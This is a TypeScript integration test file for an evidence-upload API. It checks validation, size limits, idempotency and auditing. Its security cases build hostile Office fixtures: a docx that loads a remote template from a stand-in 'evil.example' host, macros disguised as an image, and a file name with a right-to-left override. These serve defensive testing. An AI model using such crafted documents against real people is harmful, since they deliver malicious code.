import { createHash, randomUUID } from 'node:crypto';
import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { uploadEvidenceCall, useEvidence } from '../../../../test/support/evidence.ts';
import { buildOfficeFile, PDF_FILE } from '../../../../test/support/example-files.ts';
import { seedApiKey } from '../../../../test/support/factories.ts';
import { useIntegrator } from '../../../../test/support/integrator.ts';
import { listObjects, listQuarantinedFiles } from '../../../../test/support/stored-objects.ts';

const MAX_BYTES = 100_000;
const integrator = useIntegrator({ UPLOAD_MAX_BYTES: String(MAX_BYTES) });
const { call, test, audited } = integrator;
const { anAssessment, anEvidence, standsAt } = useEvidence(integrator);

/** Expects that a rejected upload leaves no row, no object and no file in quarantine. */
async function refused(...args: Parameters<typeof uploadEvidenceCall>) {
  const before = await listObjects(test);
  const answer = await integrator.refused(uploadEvidenceCall(...args));
  expect(await listObjects(test)).toEqual(before);
  expect(await listQuarantinedFiles(test)).toEqual([]);
  return { status: answer.statusCode, ...answer.json() };
}

describe('POST /api/v1/assessments/:assessmentId/evidence', () => {
  it('201 stores the file and returns its metadata', async () => {
    const assessmentId = await anAssessment();
    const query = { fileName: 'Übersicht 報告.pdf', questionKey: 'b', expiresDate: '2027-06-30' };
    const answer = await call(uploadEvidenceCall(assessmentId, query, PDF_FILE));
    expect(answer.statusCode).toBe(201);
    const evidence = answer.json();
    expect(evidence).toEqual({
      id: expect.any(String),
      fileName: 'Übersicht 報告.pdf',
      mimeType: 'application/pdf',
      sizeBytes: PDF_FILE.length,
      sha256: createHash('sha256').update(PDF_FILE).digest('hex'),
      questionKeys: ['b'],
      expiresDate: '2027-06-30',
      uploadedByName: 'Integration',
      uploadedAt: expect.stringMatching(/^\d{4}-.*Z$/),
      annex: false,
    });
    expect(await listObjects(test)).toContain(`${integrator.organisation.id}/${evidence.id}`);
    expect(await listQuarantinedFiles(test)).toEqual([]);
    const detail = await call({ method: 'GET', url: `/api/v1/assessments/${assessmentId}` });
    expect(detail.json().evidence).toEqual([evidence]);
  });

  it('201 without a question or an expiry date, regardless of the content type', async () => {
    const assessmentId = await anAssessment();
    for (const type of ['application/json', 'text/plain; charset=utf-8', 'image/png', 'multipart/form-data']) {
      const answer = await call({ ...uploadEvidenceCall(assessmentId, {}, '{}'), headers: { 'content-type': type } });
      expect(answer.statusCode, type).toBe(201);
      expect(answer.json()).toMatchObject({ mimeType: 'text/plain', questionKeys: [], expiresDate: null });
    }
  });

  it.each(['SENT', 'IN_PROGRESS', 'SUBMITTED', 'UNDER_REVIEW'] as const)(
    '201 while the assessment is %s',
    async (status) => {
      await anEvidence(await anAssessment({ status }));
    },
  );

  it('audits UPLOAD_EVIDENCE with the hash', async () => {
    const assessmentId = await anAssessment();
    const { id, sha256 } = await anEvidence(assessmentId);
    expect((await audited())[0]).toMatchObject({
      action: 'UPLOAD_EVIDENCE',
      entity_type: 'Evidence',
      entity_id: id,
      entity_name: 'policy.txt',
      meta: { assessmentId, assessmentTitle: 'Yearly review', sizeBytes: 8, sha256 },
    });
  });

  it('201 with the same response for the same Idempotency-Key and file, even after the assessment is completed', async () => {
    const assessmentId = await anAssessment();
    const again = (payload: string) => ({
      ...uploadEvidenceCall(assessmentId, {}, payload),
      headers: { 'idempotency-key': `key ${assessmentId}`.replaceAll(' ', '-'), 'content-type': 'text/plain' },
    });
    const first = await call(again('one'));
    await standsAt(assessmentId, 'COMPLETED');
    const second = await call(again('one'));
    expect([second.statusCode, second.json()]).toEqual([201, first.json()]);
    expect((await call(again('two'))).statusCode).toBe(422);
    const rows = await test.database.query('select from evidence where assessment_id = $1', [assessmentId]);
    expect(rows).toHaveLength(1);
  });

  it.each([
    ['DRAFT', 'You cannot add evidence to a draft assessment. Send it first.'],
    ['COMPLETED', 'You cannot change the evidence of a completed assessment. Reopen it first.'],
  ] as const)('409 while the assessment is %s', async (status, error) => {
    expect(await refused(await anAssessment({ status }))).toMatchObject({ status: 409, error });
  });

  it('404 for an unknown assessment', async () => {
    expect(await refused(randomUUID())).toMatchObject({ status: 404, error: 'Not found' });
    expect(await refused('nonsense')).toMatchObject({ status: 404, error: 'Not found' });
  });

  it('400 for a question that the assessment does not have', async () => {
    const answer = await refused(await anAssessment(), { questionKey: 'c' });
    expect(answer).toMatchObject({ status: 400, error: 'Invalid parameter: questionKey' });
  });

  it.each([{ fileName: '' }, { expiresDate: '2026-02-30' }, { questionKey: '<' }])('400 for %j', async (query) => {
    expect((await refused(await anAssessment(), query)).error).toMatch(/^Invalid parameter: /);
  });

  it('400 without a file name', async () => {
    const nameless = { ...uploadEvidenceCall(await anAssessment()), query: {} };
    expect((await integrator.refused(nameless)).json().error).toBe('Invalid parameter: fileName');
  });

  it.each<[string, string | Buffer, RegExp]>([
    ['page.html', '<p>', /not supported/],
    ['policy.pdf', 'no pdf', /does not match its extension/],
    ['policy.docx', buildOfficeFile('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]), /macros/],
    ['policy.txt', Buffer.from([0xff, 0xfe]), /UTF-8/],
    ['policy.txt', '', /empty/],
  ])('400 with an error message: %s', async (fileName, content, reason) => {
    const { status, error } = await refused(await anAssessment(), { fileName }, content);
    expect(status).toBe(400);
    expect(error).toMatch(reason);
  });

  it.each([
    [
      'that loads a remote template',
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      },
      /loads a template from an external source/,
    ],
    [
      'with renamed macros',
      { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') },
      /embedded object or a macro/,
    ],
  ])('S15: 400 for a document %s; stores nothing', async (_, part, reason) => {
    const document = buildOfficeFile('docx', [part]);
    const { status, error } = await refused(await anAssessment(), { fileName: 'policy.docx' }, document);
    expect(status).toBe(400);
    expect(error).toMatch(reason);
  });

  it('S15: 201 stores the file name without folders and right-to-left overrides', async () => {
    const assessmentId = await anAssessment();
    const { id, fileName } = await anEvidence(assessmentId, { fileName: 'audits/policy\u202E.txt' });
    expect(fileName).toBe('policy.txt');
    const [stored] = await test.database.query('select file_name from evidence where id = $1', [id]);
    expect(stored).toEqual({ file_name: 'policy.txt' });
  });

  it('400 without a body', async () => {
    const { method, url, query } = uploadEvidenceCall(await anAssessment());
    expect((await integrator.refused({ method, url, query })).statusCode).toBe(400);
  });

  it('413 for a file that is too large', async () => {
    const assessmentId = await anAssessment();
    expect((await call(uploadEvidenceCall(assessmentId, {}, 'x'.repeat(MAX_BYTES)))).statusCode).toBe(201);
    const answer = await refused(assessmentId, {}, 'x'.repeat(MAX_BYTES + 1));
    expect(answer).toMatchObject({ status: 413, error: 'The file is larger than 100000 bytes' });
  });

  it('413 while receiving an endless file, and closes the connection', async () => {
    const assessmentId = await anAssessment();
    const key = await seedApiKey(test, integrator.organisation);
    await test.app.listen({ host: '127.0.0.1', port: 0 });
    // eslint-disable-next-line @typescript-eslint/consistent-type-assertions -- It listens on TCP.
    const { port } = test.app.server.address() as AddressInfo;
    const path = `/api/v1/assessments/${assessmentId}/evidence?fileName=a.txt`;
    const sent = request({
      host: '127.0.0.1',
      port,
      path,
      method: 'POST',
      headers: { authorization: `Bearer ${key}` },
    });
    const endless = setInterval(() => sent.write('x'.repeat(10_000)), 1);
    const closed = new Promise((resolve) => sent.on('error', resolve).on('close', resolve));
    const status = await new Promise((resolve) => sent.on('response', (answer) => resolve(answer.resume().statusCode)));
    expect(status).toBe(413);
    await closed;
    clearInterval(endless);
    expect(await listQuarantinedFiles(test)).toEqual([]);
  });

  it('415 for content other than JSON on routes that accept no files', async () => {
    const { id } = await anEvidence();
    const put = {
      method: 'PUT',
      url: `/api/v1/evidence/${id}/questions`,
      headers: { 'content-type': 'text/plain' },
    } as const;
    expect((await integrator.refused({ ...put, payload: '{}' })).statusCode).toBe(415);
  });
});
